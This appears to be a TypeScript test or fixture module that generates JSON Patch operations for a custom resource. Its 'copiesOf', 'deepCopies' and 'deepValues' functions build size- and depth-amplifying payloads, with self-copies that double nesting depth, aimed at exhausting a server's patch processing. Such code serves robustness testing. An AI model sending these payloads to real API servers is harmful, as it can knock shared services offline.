// SPDX-License-Identifier: Apache-2.0
import { nested } from './attack.ts';

/** JSON patches of a custom resource, whose `spec.free` has any fields: some bytes of them make a large object. */
export interface Operation {
  readonly op: 'add' | 'copy';
  readonly from?: string;
  readonly path: string;
  readonly value?: unknown;
}

/** An object with numbered fields. */
export function fields(count: number): Readonly<Record<string, number>> {
  return Object.fromEntries(Array.from({ length: count }, (_, index) => [`a${index}`, 1]));
}

/** The spec with one free field. */
function start(a: unknown): Operation {
  return { op: 'add', path: '/spec', value: { free: { a } } };
}

/** A copy of that field, to a path below `spec.free`. */
function copyTo(path: string): Operation {
  return { op: 'copy', from: '/spec/free/a', path: `/spec/free/${path}` };
}

const deepPath = (levels: number) => `a${'/a'.repeat(levels)}`;

/** Copies of one value, as fields beside it. */
export function copiesOf(value: unknown, count: number): readonly Operation[] {
  return [start(value), ...Array.from({ length: count }, (_, index) => copyTo(`b${index}`))];
}

/** A nested value that is copied into itself: its depth doubles each time. */
export function deepCopies(): readonly Operation[] {
  return [start(JSON.parse(nested(490))), ...[490, 980, 1960, 3920, 7840].map((levels) => copyTo(deepPath(levels)))];
}

/** Nested values, each put into the last one. */
export function deepValues(): readonly Operation[] {
  const value = JSON.parse(nested(490)) as unknown;
  const paths = Array.from({ length: 20 }, (_, index) => `/spec/free/${deepPath(490 * index)}`);
  return [start(0), ...paths.map((path): Operation => ({ op: 'add', path, value }))];
}
